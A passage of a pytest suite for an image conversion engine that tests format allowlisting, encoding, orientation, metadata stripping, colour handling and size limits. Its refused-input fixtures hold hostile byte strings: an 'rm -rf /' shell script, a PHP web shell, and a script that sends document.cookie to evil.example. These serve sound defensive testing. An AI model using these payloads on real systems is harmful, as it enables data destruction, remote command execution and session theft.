"""The conversion engine, specified: what it reads, what it writes, and what it refuses."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import random
from collections.abc import Callable
from typing import Any

import numpy as np
import pillow_heif
import pytest
from PIL import Image, ImageCms, ImageFile, TiffImagePlugin

from imaging import processing
from imaging.errors import (
    BadRequest,
    ImagingError,
    LimitExceeded,
    MissingFile,
    TooLarge,
    UnsupportedFormat,
)
from imaging.formats import ACCEPTED_INPUT_DESCRIPTION, OUTPUT_FORMATS, SaveOptions
from imaging.processing import Decoded, Limits, RenderSpec, Rendition, placeholder
from tests import images

LIMITS = Limits(max_bytes=20 * 1024 * 1024, max_pixels=50_000_000, max_side=16383, max_frames=100)
MAX_SIDE = 16383
BACKGROUND = "#ffffff"
RED, GREEN, BLUE = (255, 0, 0), (0, 255, 0), (0, 0, 255)


def decoded(
    data: bytes, *specs: RenderSpec, limits: Limits = LIMITS, keep_copyright: bool = False
) -> Decoded:
    probed = processing.probe(data, limits)
    return processing.decode(
        data, probed, specs=specs, max_side=limits.max_side, keep_copyright=keep_copyright
    )


def convert(
    data: bytes,
    *specs: RenderSpec,
    limits: Limits = LIMITS,
    keep_copyright: bool = False,
    background: str = BACKGROUND,
) -> list[Rendition]:
    """probe + decode + render, as the pipeline runs them."""
    d = decoded(data, *specs, limits=limits, keep_copyright=keep_copyright)
    return [
        processing.render(d, spec, max_side=limits.max_side, background=background)
        for spec in specs
    ]


def convert_one(
    data: bytes, spec: RenderSpec, *, keep_copyright: bool = False, background: str = BACKGROUND
) -> Rendition:
    (rendition,) = convert(data, spec, keep_copyright=keep_copyright, background=background)
    return rendition


def opened(rendition: Rendition) -> Image.Image:
    return images.open_image(rendition.data)


def close_to(actual: object, expected: tuple[int, ...], tolerance: int = 12) -> bool:
    assert isinstance(actual, tuple)
    return len(actual) == len(expected) and all(
        abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True)
    )


def rgba_at(im: Image.Image, xy: tuple[int, int]) -> tuple[int, ...]:
    pixel = im.convert("RGBA").getpixel(xy)
    assert isinstance(pixel, tuple)
    return pixel


def grey_at(im: Image.Image, xy: tuple[int, int]) -> int:
    pixel = im.convert("L").getpixel(xy)
    assert isinstance(pixel, int)
    return pixel


# -- Input: detected from the bytes through an allowlist ------------------------------------


def _apng() -> bytes:
    frames = [Image.new("RGB", (40, 30), (i * 60, 0, 0)) for i in range(3)]
    return images.encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=50)


def _mpo() -> bytes:
    first, second = Image.new("RGB", (40, 30), RED), Image.new("RGB", (40, 30), BLUE)
    return images.encode(first, "MPO", save_all=True, append_images=[second])


def _heic() -> bytes:
    buf = io.BytesIO()
    pillow_heif.from_pillow(images.gradient(64, 48)).save(buf, quality=90)
    return buf.getvalue()


ACCEPTED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "jpeg": (lambda: images.jpeg(), "jpeg", "JPEG"),
    "mpo": (_mpo, "jpeg", "MPO"),
    "png": (lambda: images.png(), "png", "PNG"),
    "apng": (_apng, "png", "PNG"),
    "gif": (lambda: images.animated_gif(), "gif", "GIF"),
    "webp": (lambda: images.encode(images.gradient(), "WEBP"), "webp", "WEBP"),
    "avif": (lambda: images.encode(images.gradient(), "AVIF"), "avif", "AVIF"),
    "heic": (_heic, "heic", "HEIF"),
    "tiff": (lambda: images.encode(images.gradient(), "TIFF"), "tiff", "TIFF"),
    "bmp": (lambda: images.encode(images.gradient(), "BMP"), "bmp", "BMP"),
}


@pytest.mark.parametrize("kind", ACCEPTED)
def test_accepted_formats_are_recognised_from_their_bytes_and_convert(kind: str) -> None:
    build, registry_name, pillow_name = ACCEPTED[kind]
    data = build()
    probed = processing.probe(data, LIMITS)
    assert (probed.format, probed.pillow_format) == (registry_name, pillow_name)
    out = convert_one(data, RenderSpec("png"))
    assert opened(out).size == (probed.width, probed.height)


def test_mpo_converts_its_first_frame_only() -> None:
    out = convert_one(_mpo(), RenderSpec("webp"))
    assert out.frames == 1
    assert out.warning is None
    assert close_to(rgba_at(opened(out), (20, 15)), (*RED, 255))


def _html() -> bytes:
    return b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"


REFUSED: dict[str, Callable[[], bytes]] = {
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html named .png": _html,
    "shell script named .jpg": lambda: b"#!/bin/sh\nrm -rf /\n" + b"\xff\xd8" * 20,
    "php named .gif": lambda: b"<?php system($_GET['c']); ?>",
    "psd": lambda: images.psd(),
    "ico": lambda: images.encode(images.gradient(32, 32), "ICO"),
    "pdf": lambda: images.encode(images.gradient(), "PDF"),
    "ppm": lambda: images.encode(images.gradient(), "PPM"),
    "tga": lambda: images.encode(images.gradient(), "TGA"),
    "pcx": lambda: images.encode(images.gradient(), "PCX"),
    "jpeg 2000": lambda: images.encode(images.gradient(), "JPEG2000"),
    "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
    "random bytes": lambda: random.Random(1).randbytes(4096),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_anything_else_is_unsupported_and_told_what_is_accepted(kind: str) -> None:
    with pytest.raises(UnsupportedFormat) as caught:
        processing.probe(REFUSED[kind](), LIMITS)
    assert caught.value.status == 415
    assert ACCEPTED_INPUT_DESCRIPTION in caught.value.public_message


def test_a_format_pillow_could_read_is_refused_by_the_allowlist() -> None:
    data = images.psd()
    assert Image.open(io.BytesIO(data)).format == "PSD"  # Pillow alone would open it
    with pytest.raises(UnsupportedFormat):
        processing.probe(data, LIMITS)


def test_the_label_copy_from_bytes_uses_the_same_allowlist() -> None:
    with pytest.raises(UnsupportedFormat):
        processing.LabelImage.from_bytes(images.psd(64, 64)).square_rgb(32)
    assert (
        len(processing.LabelImage.from_bytes(images.jpeg(320, 240)).square_rgb(32)) == 32 * 32 * 3
    )


# -- Output formats and their encoder settings ----------------------------------------------


#: The formats Pillow writes (and reads back); SVG is traced: tests/test_vector.py.
RASTER_FORMATS = [name for name, f in OUTPUT_FORMATS.items() if f.renderer == "pillow"]


@pytest.mark.parametrize("fmt", RASTER_FORMATS)
def test_each_output_format_is_what_it_says(fmt: str) -> None:
    out = convert_one(images.jpeg(64, 48), RenderSpec(fmt))
    im = opened(out)
    assert im.format == OUTPUT_FORMATS[fmt].pillow
    assert (out.mime, out.ext) == (OUTPUT_FORMATS[fmt].mime, OUTPUT_FORMATS[fmt].ext)
    assert (out.width, out.height) == im.size == (64, 48)


def test_jpeg_output_is_progressive() -> None:
    im = opened(convert_one(images.png(), RenderSpec("jpeg")))
    assert im.info.get("progressive") or im.info.get("progression")


def _quantization(data: bytes) -> object:
    im = images.open_image(data)
    assert isinstance(im, ImageFile.ImageFile)
    return getattr(im, "quantization", None)


def test_jpeg_quality_defaults_to_the_registry_value() -> None:
    source = images.gradient(64, 48)
    out = convert_one(images.png(64, 48), RenderSpec("jpeg"))
    reference = images.encode(source, "JPEG", quality=OUTPUT_FORMATS["jpeg"].default_quality)
    assert _quantization(out.data) == _quantization(reference)


def test_an_explicit_quality_replaces_the_default() -> None:
    out = convert_one(images.png(64, 48), RenderSpec("jpeg", quality=40))
    reference = images.encode(images.gradient(64, 48), "JPEG", quality=40)
    assert _quantization(out.data) == _quantization(reference)


def test_webp_is_lossy_by_default_and_lossless_on_request() -> None:
    lossy = convert_one(images.png(), RenderSpec("webp"))
    lossless = convert_one(images.png(), RenderSpec("webp", lossless=True))
    assert lossy.data[12:16] == b"VP8 "
    assert lossless.data[12:16] == b"VP8L"


def test_a_formats_save_options_come_from_the_registry(monkeypatch: pytest.MonkeyPatch) -> None:
    source = images.noise(64, 48)
    data = images.encode(source, "PNG")
    assert convert_one(data, RenderSpec("png")).data == images.encode(
        source, "PNG", compress_level=6
    )
    png = OUTPUT_FORMATS["png"]
    monkeypatch.setitem(
        OUTPUT_FORMATS, "png", dataclasses.replace(png, save=SaveOptions({"compress_level": 0}))
    )
    assert convert_one(data, RenderSpec("png")).data == images.encode(
        source, "PNG", compress_level=0
    )


def test_a_very_large_lossy_webp_is_saved_with_less_effort(monkeypatch: pytest.MonkeyPatch) -> None:
    source = images.noise(64, 48)
    data = images.encode(source, "PNG")
    usual = images.encode(source, "WEBP", quality=80, method=4)
    cheaper = images.encode(source, "WEBP", quality=80, method=2)
    assert usual != cheaper
    smallest = RenderSpec("webp", effort="smallest")
    assert convert_one(data, smallest).data == usual
    webp = OUTPUT_FORMATS["webp"]
    large = dataclasses.replace(webp.save, large_pixels=64 * 48 - 1)  # this image is "large"
    monkeypatch.setitem(OUTPUT_FORMATS, "webp", dataclasses.replace(webp, save=large))
    assert convert_one(data, smallest).data == cheaper
    assert convert_one(data, RenderSpec("webp", lossless=True)).data == images.encode(
        source, "WEBP", lossless=True, quality=100, method=4
    )


@pytest.mark.parametrize(
    ("fmt", "fast", "smallest"),
    [
        ("webp", {"quality": 80, "method": 2}, {"quality": 80, "method": 4}),
        ("avif", {"quality": 60, "speed": 7}, {"quality": 60, "speed": 6}),
        ("png", {"compress_level": 6}, {"optimize": True}),
    ],
)
def test_the_encoder_effort_picks_the_formats_measured_settings(
    fmt: str, fast: dict[str, object], smallest: dict[str, object]
) -> None:
    source = images.noise(64, 48)
    data = images.encode(source, "PNG")
    pillow = OUTPUT_FORMATS[fmt].pillow
    assert convert_one(data, RenderSpec(fmt)).data == images.encode(source, pillow, **fast)
    assert convert_one(data, RenderSpec(fmt, effort="smallest")).data == images.encode(
        source, pillow, **smallest
    )


def test_lossless_webp_keeps_its_effort_whatever_the_setting() -> None:
    source = images.noise(64, 48)
    data = images.encode(source, "PNG")
    expected = images.encode(source, "WEBP", lossless=True, quality=100, method=4)
    for effort in ("fast", "smallest"):
        assert convert_one(data, RenderSpec("webp", lossless=True, effort=effort)).data == expected


def test_lossless_webp_keeps_every_pixel() -> None:
    source = images.noise(96, 64)
    out = convert_one(images.encode(source, "PNG"), RenderSpec("webp", lossless=True))
    assert opened(out).convert("RGB").tobytes() == source.tobytes()


# -- Animation ------------------------------------------------------------------------------

DURATIONS = [40, 80, 120, 160]


def _frames() -> list[Image.Image]:
    return [Image.new("RGB", (40, 30), (i * 60, 255 - i * 60, 90)) for i in range(4)]


def _animation(fmt: str, loop: int) -> bytes:
    first, *rest = _frames()
    return images.encode(
        first, fmt, save_all=True, append_images=rest, duration=DURATIONS, loop=loop
    )


def _timing(im: Image.Image) -> tuple[int, list[int]]:
    durations = []
    for index in range(getattr(im, "n_frames", 1)):
        im.seek(index)
        im.load()  # WebP reports a frame's duration once it is loaded
        durations.append(int(im.info["duration"]))
    return getattr(im, "n_frames", 1), durations


@pytest.mark.parametrize("source", ["GIF", "WEBP", "PNG"])
@pytest.mark.parametrize("output", ["webp", "gif", "png"])
@pytest.mark.parametrize("loop", [0, 3])
def test_animations_stay_animated_with_their_timing_and_loop(
    source: str, output: str, loop: int
) -> None:
    out = convert_one(_animation(source, loop), RenderSpec(output))
    im = opened(out)
    assert out.frames == 4
    assert out.warning is None
    assert _timing(im) == (4, DURATIONS)
    assert im.info.get("loop") == loop


@pytest.mark.parametrize("output", ["webp", "gif", "png"])
def test_a_gif_that_plays_once_still_plays_once(output: str) -> None:
    first, *rest = _frames()
    data = images.encode(first, "GIF", save_all=True, append_images=rest, duration=DURATIONS)
    assert "loop" not in Image.open(io.BytesIO(data)).info  # no NETSCAPE extension: one play
    im = opened(convert_one(data, RenderSpec(output)))
    # GIF: still no loop extension; WebP and APNG count plays, and 1 means once.
    assert im.info.get("loop") == (None if output == "gif" else 1)


@pytest.mark.parametrize("output", ["jpeg", "avif"])
def test_an_animation_into_a_still_format_keeps_the_first_frame_with_a_warning(
    output: str,
) -> None:
    out = convert_one(_animation("GIF", 0), RenderSpec(output))
    assert out.frames == 1
    assert out.warning is not None
    assert "4 frames" in out.warning
    assert close_to(rgba_at(opened(out), (20, 15)), (0, 255, 90, 255), tolerance=20)


def test_a_still_preset_of_an_animation_is_one_frame_without_a_warning() -> None:
    out = convert_one(_animation("GIF", 0), RenderSpec("webp", animate=False))
    assert (out.frames, out.warning) == (1, None)


# -- EXIF orientation -----------------------------------------------------------------------

# Where the stored top-left corner ends up once each orientation is applied (W x H = 60 x 40).
ORIENTED_CORNER = {
    2: ("top-right", False),
    3: ("bottom-right", False),
    4: ("bottom-left", False),
    5: ("top-left", True),
    6: ("top-right", True),
    7: ("bottom-right", True),
    8: ("bottom-left", True),
}


def _corner(im: Image.Image, name: str) -> tuple[int, ...]:
    x = 3 if "left" in name else im.width - 4
    y = 3 if "top" in name else im.height - 4
    return rgba_at(im, (x, y))


def _exif_orientation(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return exif


@pytest.mark.parametrize("orientation", sorted(ORIENTED_CORNER))
def test_exif_orientation_is_applied(orientation: int) -> None:
    data = images.encode(images.corner_marked(60, 40), "JPEG", exif=_exif_orientation(orientation))
    corner, swapped = ORIENTED_CORNER[orientation]
    out = convert_one(data, RenderSpec("png"))
    im = opened(out)
    assert im.size == ((40, 60) if swapped else (60, 40))
    assert close_to(_corner(im, corner), (*RED, 255), tolerance=40)
    assert close_to(
        _corner(im, "bottom-right" if corner == "top-left" else "top-left"),
        (*BLUE, 255),
        tolerance=40,
    )


def test_orientation_is_reported_and_not_written_again() -> None:
    data = images.encode(images.corner_marked(), "JPEG", exif=_exif_orientation(6))
    d = decoded(data, RenderSpec("jpeg"))
    assert d.receipt()["orientation_applied"] is True
    out = processing.render(d, RenderSpec("jpeg"), max_side=MAX_SIDE, background=BACKGROUND)
    assert 0x0112 not in opened(out).getexif()  # a viewer must not rotate it a second time


def test_orientation_is_applied_in_png_and_webp_too() -> None:
    for fmt in ("PNG", "WEBP"):
        data = images.encode(images.corner_marked(60, 40), fmt, exif=_exif_orientation(8))
        im = opened(convert_one(data, RenderSpec("png")))
        assert im.size == (40, 60)
        assert close_to(_corner(im, "bottom-left"), (*RED, 255), tolerance=40)


def test_heic_is_turned_upright_exactly_once() -> None:
    # HEIF rotates with its own irot box, which libheif applies; the EXIF tag must be ignored.
    exif = _exif_orientation(6).tobytes()  # as bytes, pillow-heif turns it into an irot box
    data = images.encode(images.corner_marked(64, 48), "HEIF", exif=exif, quality=95)
    im = opened(convert_one(data, RenderSpec("png")))
    assert im.size == (48, 64)
    assert close_to(_corner(im, "top-right"), (*RED, 255), tolerance=40)


# -- Metadata -------------------------------------------------------------------------------

XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="secret-xmp-marker"/>'
    b"</rdf:RDF></x:xmpmeta>"
)
ARTIST, COPYRIGHT, MAKE, GPS_IFD = 0x013B, 0x8298, 0x010F, 0x8825


def _photo_with_location() -> bytes:
    exif = Image.Exif()
    exif[MAKE] = "SpyCam-9000"
    exif[ARTIST] = "Ada Lovelace"
    exif[COPYRIGHT] = "(c) Ada Lovelace"
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    data = images.encode(images.gradient(), "JPEG", exif=exif, xmp=XMP)
    source = images.open_image(data)
    assert source.getexif().get_ifd(GPS_IFD)  # the fixture really carries a location...
    assert "xmp" in source.info  # ...and XMP
    return data


@pytest.mark.parametrize("fmt", ["jpeg", "webp", "png", "avif"])
def test_exif_gps_and_xmp_are_stripped_from_every_output(fmt: str) -> None:
    out = convert_one(_photo_with_location(), RenderSpec(fmt))
    im = opened(out)
    assert len(im.getexif()) == 0
    assert "xmp" not in im.info
    for marker in (b"SpyCam", b"Ada Lovelace", b"secret-xmp-marker", b"Exif\0\0"):
        assert marker not in out.data


@pytest.mark.parametrize("fmt", ["jpeg", "webp", "png", "avif"])
def test_keep_copyright_keeps_only_artist_and_copyright(fmt: str) -> None:
    out = convert_one(_photo_with_location(), RenderSpec(fmt), keep_copyright=True)
    exif = opened(out).getexif()
    assert dict(exif) == {ARTIST: "Ada Lovelace", COPYRIGHT: "(c) Ada Lovelace"}
    assert b"SpyCam" not in out.data
    assert b"secret-xmp-marker" not in out.data


def test_the_receipt_says_metadata_was_removed() -> None:
    assert decoded(_photo_with_location(), RenderSpec("webp")).receipt()["metadata_removed"]


# -- Colour ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_an_embedded_icc_profile_is_converted_to_srgb(fmt: str) -> None:
    # In the swapped-primaries space, "pure red" is what sRGB calls pure green.
    data = images.encode(
        Image.new("RGB", (32, 32), RED), fmt, icc_profile=images.swapped_primaries_profile()
    )
    d = decoded(data, RenderSpec("png"))
    assert d.profile == "converted"
    out = processing.render(d, RenderSpec("png"), max_side=MAX_SIDE, background=BACKGROUND)
    im = opened(out)
    assert close_to(rgba_at(im, (16, 16)), (*GREEN, 255), tolerance=24)
    assert "icc_profile" not in im.info  # plain sRGB: no profile needed, none carried


def test_an_icc_profile_keeps_alpha() -> None:
    source = Image.new("RGBA", (16, 16), (*RED, 128))
    data = images.encode(source, "PNG", icc_profile=images.swapped_primaries_profile())
    im = opened(convert_one(data, RenderSpec("png")))
    assert close_to(rgba_at(im, (8, 8)), (*GREEN, 128), tolerance=24)


def test_an_srgb_profile_changes_nothing() -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    source = images.noise(32, 32)
    d = decoded(images.encode(source, "PNG", icc_profile=srgb), RenderSpec("png"))
    assert d.profile == "srgb"
    assert d.frames[0].tobytes() == source.tobytes()


def test_a_grey_profile_is_converted_and_stays_grey() -> None:
    data = images.encode(Image.new("L", (8, 8), 128), "PNG", icc_profile=images.grey_icc_profile())
    d = decoded(data, RenderSpec("png"))
    assert d.profile == "converted"
    assert d.frames[0].mode == "L"
    assert 180 <= grey_at(d.frames[0], (4, 4)) <= 196  # linear 50 % grey is sRGB 188


def test_a_profile_that_does_not_match_the_pixels_is_ignored() -> None:
    data = images.encode(
        Image.new("L", (8, 8), 100), "PNG", icc_profile=images.swapped_primaries_profile()
    )
    d = decoded(data, RenderSpec("png"))
    assert d.profile == "ignored"
    assert grey_at(d.frames[0], (4, 4)) == 100


def test_a_damaged_icc_profile_is_ignored() -> None:
    data = images.encode(Image.new("RGB", (8, 8), RED), "PNG", icc_profile=b"not a profile")
    d = decoded(data, RenderSpec("png"))
    assert d.profile == "ignored"
    assert close_to(rgba_at(d.frames[0], (4, 4)), (*RED, 255), tolerance=0)


CMYK_PATCHES = [
    ((255, 0, 0, 0), (0, 255, 255)),  # cyan
    ((0, 255, 0, 0), (255, 0, 255)),  # magenta
    ((0, 0, 255, 0), (255, 255, 0)),  # yellow
    ((0, 0, 0, 255), (0, 0, 0)),  # black
]


def test_a_cmyk_jpeg_becomes_rgb_with_the_right_colours() -> None:
    source = Image.new("CMYK", (64, 16))
    for i, (ink, _) in enumerate(CMYK_PATCHES):
        source.paste(ink, (i * 16, 0, i * 16 + 16, 16))
    data = images.encode(source, "JPEG", quality=95)
    assert images.open_image(data).mode == "CMYK"
    for fmt in ("jpeg", "webp", "png"):
        im = opened(convert_one(data, RenderSpec(fmt)))
        assert im.mode in ("RGB", "RGBA")
        for i, (_, rgb) in enumerate(CMYK_PATCHES):
            assert close_to(rgba_at(im, (i * 16 + 8, 8)), (*rgb, 255), tolerance=24), fmt


def test_16_bit_greyscale_is_scaled_not_clipped_to_white() -> None:
    source = Image.new("I;16", (3, 1))
    source.putdata([0, 32768, 65535])
    data = images.encode(source, "PNG")
    assert images.open_image(data).mode == "I;16"
    im = opened(convert_one(data, RenderSpec("png")))
    assert [grey_at(im, (x, 0)) for x in range(3)] == [0, 128, 255]


def test_16_bit_greyscale_keeps_its_transparent_value() -> None:
    source = Image.new("I;16", (2, 1))
    source.putdata([1000, 40000])
    im = opened(convert_one(images.encode(source, "PNG", transparency=1000), RenderSpec("png")))
    assert rgba_at(im, (0, 0))[3] == 0
    assert rgba_at(im, (1, 0)) == (156, 156, 156, 255)


def _palette_with_transparency() -> bytes:
    im = Image.new("P", (16, 16), 1)
    im.putpalette([255, 0, 0, 0, 0, 255])
    im.paste(0, (0, 0, 8, 16))  # left half: index 0, declared transparent
    return images.encode(im, "PNG", transparency=0)


TRANSPARENT_SOURCES: dict[str, Callable[[], bytes]] = {
    "RGBA PNG": lambda: images.rgba_png(16, 16),
    "palette PNG with tRNS": _palette_with_transparency,
    "LA PNG": lambda: images.encode(
        images.open_image(images.rgba_png(16, 16)).convert("LA"), "PNG"
    ),
    "RGB PNG with tRNS": lambda: images.encode(
        Image.open(io.BytesIO(images.rgba_png(16, 16))).convert("RGB"), "PNG", transparency=RED
    ),
    "WebP with alpha": lambda: images.encode(
        images.open_image(images.rgba_png(16, 16)), "WEBP", lossless=True
    ),
}


@pytest.mark.parametrize("fmt", ["png", "webp", "avif", "gif"])
@pytest.mark.parametrize("source", TRANSPARENT_SOURCES)
def test_transparency_is_kept_where_the_output_has_alpha(source: str, fmt: str) -> None:
    im = opened(convert_one(TRANSPARENT_SOURCES[source](), RenderSpec(fmt)))
    assert rgba_at(im, (3, 8))[3] == 0
    assert rgba_at(im, (12, 8))[3] == 255


@pytest.mark.parametrize("source", TRANSPARENT_SOURCES)
def test_transparency_is_flattened_onto_the_background_in_jpeg(source: str) -> None:
    out = convert_one(TRANSPARENT_SOURCES[source](), RenderSpec("jpeg"), background="#ff8000")
    im = opened(out)
    assert im.mode == "RGB"
    assert close_to(rgba_at(im, (3, 8)), (255, 128, 0, 255))


def test_an_alpha_channel_that_is_fully_opaque_is_dropped() -> None:
    data = images.encode(images.gradient().convert("RGBA"), "PNG")
    assert decoded(data, RenderSpec("png")).frames[0].mode == "RGB"


# -- Geometry -------------------------------------------------------------------------------


def _size(
    spec: RenderSpec, source: tuple[int, int] = (400, 200), max_side: int = MAX_SIDE
) -> tuple[int, int]:
    data = images.encode(images.bands(*source), "PNG")
    probed = processing.probe(data, LIMITS)
    d = processing.decode(data, probed, specs=[spec], max_side=max_side)
    out = processing.render(d, spec, max_side=max_side, background=BACKGROUND)
    assert opened(out).size == (out.width, out.height)
    return out.width, out.height


def test_contain_fits_inside_the_box_keeping_the_aspect_ratio() -> None:
    assert _size(RenderSpec("png", 100, 100, fit="contain")) == (100, 50)


def test_cover_fills_the_box_and_crops_the_centre() -> None:
    out = convert_one(
        images.encode(images.bands(300, 100), "PNG"), RenderSpec("png", 50, 50, fit="cover")
    )
    im = opened(out)
    assert im.size == (50, 50)
    for x in (2, 25, 47):  # only the green middle band survives the crop
        assert close_to(rgba_at(im, (x, 25)), (*GREEN, 255), tolerance=8)


def test_fill_stretches_to_the_box() -> None:
    assert _size(RenderSpec("png", 100, 100, fit="fill")) == (100, 100)


def test_one_side_given_keeps_the_aspect_ratio() -> None:
    assert _size(RenderSpec("png", width=100)) == (100, 50)
    assert _size(RenderSpec("png", height=100)) == (200, 100)


@pytest.mark.parametrize("fit", processing.FIT_MODES)
def test_nothing_is_upscaled_unless_asked(fit: str) -> None:
    width, height = _size(RenderSpec("png", 800, 800, fit=fit))
    assert width <= 400
    assert height <= 200


@pytest.mark.parametrize(
    ("fit", "expected"), [("contain", (800, 400)), ("cover", (800, 800)), ("fill", (800, 800))]
)
def test_upscale_enlarges_to_the_box(fit: str, expected: tuple[int, int]) -> None:
    assert _size(RenderSpec("png", 800, 800, fit=fit, upscale=True)) == expected


def test_the_output_side_is_capped_at_max_side() -> None:
    assert _size(RenderSpec("png"), max_side=100) == (100, 50)
    assert _size(RenderSpec("png", 5000, 5000, upscale=True), max_side=300) == (300, 150)


@pytest.mark.parametrize(
    "spec",
    [RenderSpec("png", fit="stretch"), RenderSpec("png", width=0), RenderSpec("png", height=-5)],
)
def test_a_nonsensical_box_is_a_bad_request(spec: RenderSpec) -> None:
    with pytest.raises(BadRequest):
        processing.target_size(400, 200, spec, MAX_SIDE)


# -- CPU and memory: draft mode -------------------------------------------------------------


def test_a_jpeg_shrunk_for_every_output_is_decoded_in_draft_mode() -> None:
    data = images.large_jpeg(4000, 3000)
    spec = RenderSpec("webp", 1024, 1024)
    d = decoded(data, spec, RenderSpec("jpeg", 480, 480))
    # 1/4 scale (1000x750) falls less than DRAFT_SLACK under 1024x768: not 1/2, not 12 MP.
    assert d.frames[0].size == (1000, 750)
    out = processing.render(d, spec, max_side=MAX_SIDE, background=BACKGROUND)
    assert opened(out).size == (1024, 768)  # the output is still exactly the size asked


def test_draft_mode_never_lands_further_than_its_slack_under_the_output() -> None:
    data = images.large_jpeg(4000, 3000)
    spec = RenderSpec("webp", 1100, 1100)  # 1/4 scale (1000 px) would be 9 % short
    d = decoded(data, spec)
    assert d.frames[0].size == (2000, 1500)
    out = processing.render(d, spec, max_side=MAX_SIDE, background=BACKGROUND)
    assert opened(out).size == (1100, 825)


def test_draft_mode_respects_orientation() -> None:
    source = images.gradient(64, 48).resize((4000, 3000))
    data = images.encode(source, "JPEG", exif=_exif_orientation(6))
    spec = RenderSpec("jpeg", 1024, 1024)
    d = decoded(data, spec)
    assert d.frames[0].width < d.frames[0].height < 3000
    out = processing.render(d, spec, max_side=MAX_SIDE, background=BACKGROUND)
    assert opened(out).size == (768, 1024)


def test_a_full_size_output_turns_draft_mode_off() -> None:
    data = images.large_jpeg(2000, 1500)
    d = decoded(data, RenderSpec("webp", 480, 480), RenderSpec("webp"))
    assert d.frames[0].size == (2000, 1500)


# -- Safety: limits from the header, before any decoding ------------------------------------


@pytest.mark.parametrize(
    "limits",
    [LIMITS, Limits(max_bytes=1 << 30, max_pixels=10**11, max_side=10**6, max_frames=100)],
    ids=["configured limits", "limits set absurdly high"],
)
def test_a_png_claiming_100000_squared_pixels_is_refused_from_its_header(limits: Limits) -> None:
    data = images.png_claiming(100_000, 100_000)
    assert len(data) < 100
    with pytest.raises(LimitExceeded) as caught:
        processing.probe(data, limits)  # ...and Pillow's bomb check backs ours up
    assert caught.value.status == 422


def test_a_gif_with_a_huge_logical_screen_is_refused() -> None:
    with pytest.raises(LimitExceeded):
        processing.probe(images.gif_with_screen(65535, 65535), LIMITS)


def test_a_gif_with_more_frames_than_allowed_is_refused() -> None:
    data = images.gif_of_frames(300)
    assert getattr(Image.open(io.BytesIO(data)), "n_frames", 1) == 300
    with pytest.raises(LimitExceeded) as caught:
        processing.probe(data, LIMITS)
    assert "100 frames" in caught.value.public_message


def test_a_gif_of_a_million_frames_is_refused_without_walking_them() -> None:
    with pytest.raises(LimitExceeded):
        processing.probe(images.gif_of_frames(1_000_000), LIMITS)


def test_frames_up_to_the_limit_are_accepted() -> None:
    assert processing.probe(images.gif_of_frames(100), LIMITS).frames == 100


def test_a_side_over_max_side_is_refused() -> None:
    data = images.encode(Image.new("RGB", (20000, 1)), "PNG")
    with pytest.raises(LimitExceeded) as caught:
        processing.probe(data, LIMITS)
    assert "16383" in caught.value.public_message


def test_too_many_pixels_is_refused() -> None:
    with pytest.raises(LimitExceeded):
        processing.probe(images.png_claiming(8000, 7000), LIMITS)


def test_an_animation_over_its_pixel_budget_is_refused() -> None:
    small = Limits(max_bytes=LIMITS.max_bytes, max_pixels=4800, max_side=100, max_frames=100)
    data = images.animated_gif(frames=10, width=40, height=30)
    assert processing.probe(images.animated_gif(frames=4, width=40, height=30), small)
    with pytest.raises(LimitExceeded):
        processing.probe(data, small)  # 10 frames of 1200 pixels > the 4800-pixel budget


def test_a_file_over_max_bytes_is_too_large() -> None:
    small = Limits(max_bytes=1000, max_pixels=LIMITS.max_pixels, max_side=MAX_SIDE, max_frames=1)
    with pytest.raises(TooLarge) as caught:
        processing.probe(images.noise(64, 64).tobytes(), small)
    assert caught.value.status == 413


def test_an_empty_file_is_a_missing_file() -> None:
    with pytest.raises(MissingFile) as caught:
        processing.probe(b"", LIMITS)
    assert caught.value.status == 400


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_a_truncated_image_is_refused_not_half_decoded(kind: str) -> None:
    whole = images.encode(images.noise(64, 48), kind.upper())
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    with pytest.raises(UnsupportedFormat):
        convert(whole[: len(whole) * 2 // 3], RenderSpec("webp"))


def test_a_script_after_the_png_end_converts_and_is_never_copied() -> None:
    script = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    data = images.png() + script
    specs = [RenderSpec(fmt) for fmt in OUTPUT_FORMATS]
    for out in convert(data, *specs):
        assert script not in out.data
        assert b"evil.example" not in out.data


def test_a_multi_page_tiff_converts_its_first_page_with_a_warning() -> None:
    pages = [Image.new("RGB", (32, 32), colour) for colour in (RED, GREEN, BLUE)]
    data = images.encode(pages[0], "TIFF", save_all=True, append_images=pages[1:])
    d = decoded(data, RenderSpec("png"))
    assert len(d.frames) == 1
    assert d.warnings == ["Only the first page of the multi-page TIFF was converted."]
    out = processing.render(d, RenderSpec("png"), max_side=MAX_SIDE, background=BACKGROUND)
    assert rgba_at(opened(out), (16, 16)) == (*RED, 255)


def test_a_decoded_image_must_match_its_probe() -> None:
    probed = processing.probe(images.png(64, 48), LIMITS)
    with pytest.raises(UnsupportedFormat):
        processing.decode(
            images.png(640, 480), probed, specs=[RenderSpec("png")], max_side=MAX_SIDE
        )


# -- One boundary: a damaged file is a 4xx, never a crash -----------------------------------


def _exif_jpeg() -> bytes:
    return images.encode(images.gradient(48, 32), "JPEG", exif=_exif_orientation(6))


FUZZ_SEEDS: dict[str, Callable[[], bytes]] = {
    "png": lambda: images.encode(images.gradient(48, 32, "RGBA"), "PNG"),
    "jpeg": _exif_jpeg,
